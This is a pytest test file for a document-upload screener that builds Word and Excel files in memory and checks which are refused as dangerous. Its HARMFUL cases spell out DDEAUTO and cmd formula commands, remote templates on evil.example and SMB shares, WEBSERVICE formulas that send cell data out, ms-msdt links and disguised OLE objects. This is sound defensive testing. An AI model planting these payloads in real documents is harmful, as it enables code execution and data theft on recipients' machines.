"""Word and Excel: every harmful spelling is refused, every harmless shape that people really have is taken."""

from collections.abc import Callable

import pytest
from files import samples
from files.samples import CONTENT_TYPES, DOCUMENT, OOXML, WINDOWS_PROGRAM, WORD, docx, zipped

from zhijian.core.errors import Problem
from zhijian.core.files import MATERIALS, intake

pytestmark = pytest.mark.django_db
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def rels(kind: str, target: str, mode: str = "External") -> str:
    inside = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}">{inside}</Relationships>'


def pointing(kind: str, target: str, mode: str = "External") -> bytes:
    return docx(word___rels__document_dot_xml_dot_rels=rels(kind, target, mode))


def told(relations: str | bytes) -> bytes:
    return docx(word___rels__settings_dot_xml_dot_rels=relations)


def body(markup: str) -> bytes:
    return docx(word__document_dot_xml=DOCUMENT % markup)


def field(*runs: str, mark: str = "fldChar") -> str:
    """A complex field whose code is split over ``runs``; a run that is markup is put in as it is."""
    parts = "".join(
        run if run.startswith("<") else f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs
    )
    begin, end = (f'<w:r><w:{mark} w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    middle = f'<w:r><w:{mark} w:fldCharType="separate"/></w:r><w:r><w:t>!</w:t></w:r>'
    return f"<w:p>{begin}{parts}{middle}{end}</w:p>"


def xlsx(sheet: str = "", **more: str | bytes) -> bytes:
    entries: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT_TYPES.replace(
            "wordprocessingml.document", "spreadsheetml.sheet"
        ).replace("word/document", "xl/workbook"),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}"/>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><sheetData>{sheet}</sheetData></worksheet>',
    }
    return zipped(
        entries | {name.replace("__", "/").replace("_dot_", "."): part for name, part in more.items()}
    )


def formula(text: str) -> bytes:
    return xlsx(f'<row><c r="A1"><f>{text}</f><v>1</v></c></row>')


def chart(workbook: bytes) -> bytes:
    """As Word writes a bar chart: its figures lie beside it as a workbook."""
    return docx(
        word__charts__chart1_dot_xml='<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
        word__charts___rels__chart1_dot_xml_dot_rels=rels(
            "package", "../embeddings/Microsoft_Excel_Sheet.xlsx", "Internal"
        ),
        word__embeddings__Microsoft_Excel_Sheet_dot_xlsx=workbook,
    )


def typed(content_type: str, extension: str = "bin") -> str:
    return CONTENT_TYPES.replace(
        "</Types>", f'<Default Extension="{extension}" ContentType="{content_type}"/></Types>'
    )


def enabled(kind: str) -> str:
    return CONTENT_TYPES.replace(
        f"{OOXML}.wordprocessingml.document.main+xml", f"application/vnd.ms-{kind}.macroEnabled.main+xml"
    )


def with_types(types: str) -> bytes:
    return zipped({"[Content_Types].xml": types, "word/document.xml": DOCUMENT % ""})


TEMPLATE = f'Type="{RELATIONS}/attachedTemplate"'
HARMFUL: dict[str, Callable[[], bytes]] = {
    # commands
    "DDEAUTO in a field": lambda: body(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')),
    "DDE in a field": lambda: body(field(' DDE cmd "/k" ')),
    "DDE in small letters": lambda: body(field(' ddeauto cmd "/k" ')),
    "DDE split over runs": lambda: body(field(" DD", "EAU", "TO cmd /k ")),
    "DDE in a simple field": lambda: body('<w:fldSimple w:instr=" DDEAUTO cmd /k "/>'),
    "DDE without separator": lambda: body(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE cmd</w:instrText></w:r>'
    ),
    "DDE outside of a field": lambda: body("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"),
    "DDE spelt by an inner field": lambda: body(field(field(" QUOTE 68 68 69 "), " cmd /k ")),
    "half of DDE spelt by an inner field": lambda: body(field(" DD", field(" QUOTE 69 "), " cmd /k ")),
    "DDE in an inner field": lambda: body(field(" IF 1=1 ", field(" DDEAUTO cmd /k "), ' "" ')),
    "DDE under another prefix": lambda: docx(
        word__document_dot_xml=f'<x:document xmlns:x="{WORD}"><x:fldSimple x:instr="DDE cmd"/></x:document>'
    ),
    "DDE in a header": lambda: docx(
        word__header1_dot_xml=f'<w:hdr xmlns:w="{WORD}">{field(" DDEAUTO cmd /k ")}</w:hdr>'
    ),
    "DDE in character references": lambda: body('<w:fldSimple w:instr="&#68;&#x44;EAUTO cmd"/>'),
    "text of another server": lambda: body(field(' INCLUDETEXT "http://evil.example/a" ')),
    "picture of another share": lambda: body(field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\a.png" ')),
    "link to a program's data": lambda: body(field(' LINK Excel.Sheet.8 "http://evil.example/a.xls" ')),
    "DDE in a formula": lambda: formula("cmd|'/c calc'!A0"),
    "DDE behind a sum": lambda: formula("1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''"),
    "DDE in a name": lambda: xlsx(
        xl__workbook_dot_xml=f'<workbook xmlns="{SHEET}"><definedNames><definedName name="a">cmd|"/c"!A0</definedName></definedNames></workbook>'
    ),
    "DDE link": lambda: xlsx(
        xl__externalLinks__externalLink1_dot_xml=f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    ),
    "OLE link": lambda: xlsx(
        xl__externalLinks__externalLink1_dot_xml=f'<externalLink xmlns="{SHEET}"><oleLink progId="Package"/></externalLink>'
    ),
    "a picture of the web": lambda: formula('_xlfn.IMAGE("http://evil.example/?"&amp;A1)'),
    "web service": lambda: formula('_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)'),
    "data fetched on opening": lambda: xlsx(
        xl__connections_dot_xml=f'<connections xmlns="{SHEET}"><connection id="1" refreshOnLoad="1"/></connections>'
    ),
    # programs and other files
    "packager object": lambda: docx(word__embeddings__oleObject1_dot_bin=OLE),
    "packager told by its markup": lambda: body(
        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package"/>'
    ),
    "old Excel as object": lambda: xlsx(xl__embeddings__oleObject1_dot_bin=OLE),
    "object under a picture's name": lambda: docx(word__media__image1_dot_png=OLE),
    "program under a picture's name": lambda: docx(word__media__image1_dot_png=WINDOWS_PROGRAM),
    "pdf as object": lambda: docx(word__embeddings__a_dot_bin=samples.pdf()),
    "archive under any name": lambda: docx(word__media__image1_dot_png=zipped({"a": "b"})),
    "word in word": lambda: docx(word__embeddings__inner_dot_docx=docx()),
    "word behind a chart": lambda: chart(docx()),
    "program behind a chart": lambda: chart(WINDOWS_PROGRAM),
    "chart with a harmful workbook": lambda: chart(formula("cmd|'/c calc'!A0")),
    "chart with macros": lambda: chart(xlsx(xl__vbaProject_dot_bin=OLE)),
    "program by name": lambda: docx(word__a_dot_exe=b"x"),
    # macros
    "macro": lambda: docx(word__vbaProject_dot_bin=OLE),
    "macro under another name": lambda: pointing("vbaProject", "a.xml", "Internal"),
    "macro by its type": lambda: with_types(typed("application/vnd.ms-office.vbaProject", "dat")),
    "docm without macros": lambda: with_types(enabled("word.document")),
    "xlsm without macros": lambda: with_types(enabled("excel.sheet")),
    "control": lambda: with_types(typed("application/vnd.ms-office.activeX+xml", "ax")),
    "add-in": lambda: pointing("webextensiontaskpanes", "taskpanes.xml", "Internal"),
    "foreign text": lambda: body('<w:altChunk xmlns:r="urn:r" r:id="r1"/>'),
    # loading from elsewhere
    "template of a server": lambda: told(rels("attachedTemplate", "http://evil.example/t.dotm")),
    "template, attributes in another order": lambda: told(
        f'<Relationships xmlns="{PACKAGE}"><Relationship TargetMode="External" Id="r1" Target="https://evil.example/t" {TEMPLATE}/></Relationships>'
    ),
    "template in single quotes": lambda: told(
        rels("attachedTemplate", "http://evil.example/t").replace('"', "'")
    ),
    "template in UTF-16": lambda: told(
        rels("attachedTemplate", "http://evil.example/t")
        .replace('"1.0"', '"1.0" encoding="UTF-16"')
        .encode("utf-16")
    ),
    "template under another prefix": lambda: told(
        f'<r:Relationships xmlns:r="{PACKAGE}"><r:Relationship Id="1" {TEMPLATE} Target="http://evil.example/t" TargetMode="External"/></r:Relationships>'
    ),
    "template in character references": lambda: told(rels("attachedTemplate", "&#104;ttp://evil.example/t")),
    "template of a share": lambda: told(rels("attachedTemplate", "\\\\evil\\share\\t.dotm")),
    "template of a share as file": lambda: told(rels("attachedTemplate", "file://evil/share/t.dotm")),
    "template of a share with many slashes": lambda: told(rels("attachedTemplate", "file://///evil/share/t")),
    "template of a share, escaped": lambda: told(rels("attachedTemplate", "%5C%5Cevil%5Cshare%5Ct")),
    "template with a space before": lambda: told(rels("attachedTemplate", " http://evil.example/t")),
    "template without a mode": lambda: told(rels("attachedTemplate", "http://evil.example/t", "Internal")),
    "help protocol": lambda: pointing("oleObject", "mhtml:http://evil.example/a!x-usc:http://evil.example/a"),
    "picture of a server": lambda: pointing("image", "http://evil.example/spy.png"),
    "picture of a share": lambda: pointing("image", "file://evil/share/spy.png"),
    "frame": lambda: pointing("frame", "https://evil.example/"),
    "part of a document elsewhere": lambda: pointing("subDocument", "//evil/share/a.docx"),
    "workbook of a server": lambda: xlsx(
        xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=rels(
            "externalLinkPath", "https://evil.example/a.xlsx"
        )
    ),
    "link that starts a program": lambda: pointing("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link with a script": lambda: pointing("hyperlink", "java\tscript:alert(1)"),
    "link to a share": lambda: pointing("hyperlink", "file://evil/share"),
    # tricks of the package
    "DTD": lambda: docx(word__x_dot_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    "DTD in UTF-16": lambda: docx(
        word__x_dot_xml='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")
    ),
    "odd encoding": lambda: docx(word__x_dot_xml='<?xml version="1.0" encoding="iso-8859-1"?><a/>'),
    "two names that differ by case": lambda: docx(word__X_dot_xml="<a/>", word__x_dot_xml="<a/>"),
    "main part under another ending": lambda: zipped(
        {
            "[Content_Types].xml": typed(f"{OOXML}.wordprocessingml.document.main+xml", "dat"),
            "word/document.xml": DOCUMENT % "",
            "word/other.dat": DOCUMENT % field(" DDEAUTO cmd /k "),
        }
    ),
}
HARMLESS: dict[str, Callable[[], bytes]] = {
    "plain": docx,
    "chart with its workbook": lambda: chart(xlsx()),
    "chart linked to a local file": lambda: docx(
        word__charts__chart1_dot_xml="<c/>",
        word__charts___rels__chart1_dot_xml_dot_rels=rels("oleObject", "file:///C:\\Users\\a\\Book1.xlsx"),
    ),
    "template of a company": lambda: told(
        rels("attachedTemplate", "file:///C:\\Users\\a\\Templates\\公司公文.dotx")
    ),
    "template of a drive": lambda: told(rels("attachedTemplate", "D:\\模板\\合同.dotx")),
    "template by name": lambda: told(rels("attachedTemplate", "Normal.dotm")),
    "template of a Macintosh": lambda: told(rels("attachedTemplate", "file:///Users/a/Library/Normal.dotm")),
    "template on localhost": lambda: told(rels("attachedTemplate", "file://localhost/C:/a.dotx")),
    "link": lambda: pointing("hyperlink", "https://gov.example/办事?a=1%20b#c"),
    "link to a mailbox": lambda: pointing("hyperlink", "mailto:office@gov.example"),
    "link to a place in the text": lambda: pointing("hyperlink", "#_Toc1"),
    "picture on the writer's disk": lambda: pointing("image", "file:///D:\\照片\\1.png"),
    "workbook on the writer's disk": lambda: xlsx(
        xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=rels(
            "externalLinkPath", "file:///C:\\a\\b.xlsx"
        )
    ),
    "page numbers and contents": lambda: body(
        field(" PAGE ") + field(' TOC \\o "1-3" \\h ') + field(" =", field(" PAGE "), "-1 ")
    ),
    "mail merge with a condition": lambda: body(
        field(" IF ", field(" MERGEFIELD 性别 "), ' = "男" "先生" "女士" ')
        + '<w:fldSimple w:instr=" DATE "/>'
    ),
    "picture pasted from a page": lambda: body(
        field(' INCLUDEPICTURE "http://news.example/a.png" \\* MERGEFORMATINET ')
    ),
    "equation with bars": lambda: body(
        '<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f>'
    ),
    "words that look like a field": lambda: body("<w:r><w:t>DDEAUTO cmd.exe</w:t></w:r>"),
    "formulas": lambda: formula("SUM(A1:B2)+'甲|乙'!A1&amp;\"a|b\""),
    "UTF-16": lambda: docx(
        word__x_dot_xml='<?xml version="1.0" encoding="UTF-16"?><a>字</a>'.encode("utf-16")
    ),
    "printer's settings": lambda: xlsx(xl__printerSettings__printerSettings1_dot_bin=b"H\0P\0" * 100),
    "empty part": lambda: docx(word__comments_dot_xml=b""),
    "of openpyxl": samples.xlsx,
}


def outcome(content: bytes) -> str:
    try:
        intake(samples.Upload(content, "材料"), allowed=MATERIALS, max_bytes=10 << 20, kind="case_material")
    except Problem as problem:
        return problem.code
    return "taken"


@pytest.mark.parametrize("case", HARMFUL)
def test_harmful_spellings_are_refused(case: str) -> None:
    assert outcome(HARMFUL[case]()) == "files.dangerous"


@pytest.mark.parametrize("case", HARMLESS)
def test_harmless_shapes_are_taken(case: str) -> None:
    assert outcome(HARMLESS[case]()) == "taken"


def test_a_password_is_told_as_a_password() -> None:
    assert outcome(OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600) == "files.locked"


@pytest.mark.parametrize(
    "case", ["docm without macros", "packager object", "picture of a server", "DDE in a field"]
)
def test_the_refusal_says_what_to_do(case: str) -> None:
    with pytest.raises(Problem) as refusal:
        intake(
            samples.Upload(HARMFUL[case](), "材料"),
            allowed=MATERIALS,
            max_bytes=10 << 20,
            kind="case_material",
        )
    assert "请" in refusal.value.detail
